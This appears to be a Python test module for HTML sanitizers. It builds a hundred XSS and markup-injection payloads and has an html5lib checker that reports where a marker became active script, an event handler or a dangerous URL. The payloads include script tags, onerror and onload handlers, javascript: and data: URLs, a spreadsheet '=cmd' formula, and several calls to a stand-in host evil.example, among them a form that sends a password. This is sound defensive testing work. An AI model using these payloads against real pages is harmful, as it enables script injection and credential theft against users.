"""A hundred texts that try to become more than text in a page or a mail, and what to look for where they went.

Each holds `MARK`. A page is safe where the mark stands in text and in values of harmless attributes alone.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Any
from urllib.parse import urlsplit

import html5lib

MARK = "zqx9"
ACT = f"alert('{MARK}')"

TAGS = (
    "<script>{act}</script>",
    "<SCRIPT SRC=//evil.example/{mark}.js></SCRIPT>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<img src=x onerror={act}>",
    "<img src=x:{mark} onerror='{act}'>",
    "<img src=//evil.example/{mark}.png>",
    "<IMG LOWSRC=javascript:{act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,{mark}#x'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={act}>",
    "<body onload={act}>",
    "<iframe src=javascript:{act}>",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<object data=javascript:{act}>",
    "<embed src=javascript:{act}>",
    "<link rel=stylesheet href=//evil.example/{mark}.css>",
    "<style>@import '//evil.example/{mark}';</style>",
    "<base href=//evil.example/{mark}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{mark}'>",
    "<form action=//evil.example/{mark}><input name=password>",
    "<input autofocus onfocus={act}>",
    "<button formaction=javascript:{act}>x</button>",
    "<details open ontoggle={act}>",
    "<marquee onstart={act}>",
    "<video><source onerror={act}>",
    "<audio src=x onerror={act}>",
    "<a href='javascript:{act}'>x</a>",
    "<a href='JaVaScRiPt:{act}'>x</a>",
    "<a href='java\tscript:{act}'>x</a>",
    "<a href='&#106;avascript:{act}'>x</a>",
    "<a href='data:text/html,<script>{act}</script>'>x</a>",
    "<a href='vbscript:{mark}'>x</a>",
    "<a href=//evil.example/{mark} target=_blank>x</a>",
    "<table background=javascript:{act}>",
    "<div style='background:url(javascript:{act})'>",
    "<p style='behavior:url(//evil.example/{mark})'>",
    "<!--><script>{act}</script>-->",
    "<![CDATA[<script>{act}</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<textarea></textarea><script>{act}</script>",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "</style><script>{act}</script>",
    "</script><script>{act}</script>",
    "</option></select><script>{act}</script>",
    "<template><script>{act}</script></template>",
    "<xss onclick={act} id={mark}>x</xss>",
    "<a hx-get=//evil.example/{mark} hx-trigger=load>x</a>",
)
TEXTS = (
    "\" onmouseover={act} x=\"",
    "' onmouseover={act} x='",
    "` onmouseover={act} x=`",
    "\"><script>{act}</script>",
    "'><script>{act}</script>",
    "javascript:{act}",
    "{{{{ {mark} }}}}{{% include '{mark}' %}}",
    "${{{act}}}",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "%3Cscript%3E{act}%3C/script%3E",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "＜script＞{act}＜/script＞",
    "<\u200bscript>{act}</script>",
    "[{mark}](javascript:{act})",
    "[{mark}](JAVASCRIPT:{act})",
    "[{mark}](java&#115;cript:{act})",
    "[{mark}](data:text/html;base64,{mark})",
    "![{mark}](//evil.example/{mark}.png)",
    "![{mark}](x\" onerror=\"{act})",
    "[{mark}]: javascript:{act}\n\n[x][{mark}]",
    "<javascript:{act}>",
    "<https://evil.example/{mark}\" onclick=\"{act}>",
    "[{mark}](<javascript:{act}>)",
    "[{mark}](//evil.example/{mark} \"\\\" onclick={act}\")",
    "`</code><script>{act}</script>`",
    "```\n</pre><script>{act}</script>\n```",
    "> <img src=x onerror={act}>",
    "# <svg onload={act}>",
    "| <img src=x onerror={act}> |\n|---|\n| {mark} |",
    "=cmd|'/c {mark}'!A1",
    "{mark}@evil.example<script>{act}</script>",
    "=?utf-8?q?=3Cscript=3E{mark}?=",
    "{mark}\u202e<script>{act}</script>",
    "&{mark};<script>{act}</script>&amp",
)  # fmt: skip
WRAPPED = ("{0}", "**{0}**", "<b>{0}</b>")  # as it is, within Markdown, within a tag that a page may allow


def payloads() -> list[str]:
    """A hundred of them: each text once, each tag once, and the first tags again within others."""
    filled = [one.format(act=ACT, mark=MARK) for one in (*TAGS, *TEXTS)]
    wrapped = [outer.format(inner) for outer, inner in product(WRAPPED[1:], filled[:8])]
    return [*filled, *wrapped][:100]


def faults(page: str, *, allowed_hosts: tuple[str, ...] = ()) -> Iterator[str]:
    """Where the mark has become more than text in a page: an element, an attribute that acts, an address that does."""
    for element in html5lib.parse(page, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            if element.text and MARK in element.text:
                yield f"comment {element.text!r}"
            continue
        if element.tag in ("script", "style", "template", "noscript") and MARK in (element.text or ""):
            yield f"<{element.tag}> {element.text!r}"
        yield from acting(element, allowed_hosts)


def acting(element: Any, allowed_hosts: tuple[str, ...]) -> Iterator[str]:
    """The attributes of an element that act, or lead elsewhere, and hold the mark or are there because of it."""
    for name, value in element.attrib.items():
        if MARK in str(name):
            yield f"<{element.tag} {name}>"
        if MARK not in value:
            continue
        if str(name).startswith(("on", "hx-", "data-hx-", "style", "srcdoc", "formaction", "action")):
            yield f"<{element.tag} {name}={value!r}>"
        elif name in ("href", "src", "background", "data", "lowsrc", "{http://www.w3.org/1999/xlink}href"):
            parts = urlsplit(value.strip())
            remote = bool(parts.netloc) and parts.netloc not in allowed_hosts
            if parts.scheme not in ("", "http", "https", "mailto") or (remote and element.tag != "a"):
                yield f"<{element.tag} {name}={value!r}>"
        elif element.tag in ("script", "iframe", "object", "embed", "base", "meta", "link", "form") and name not in (
            "content",
            "title",
        ):
            yield f"<{element.tag} {name}={value!r}>"
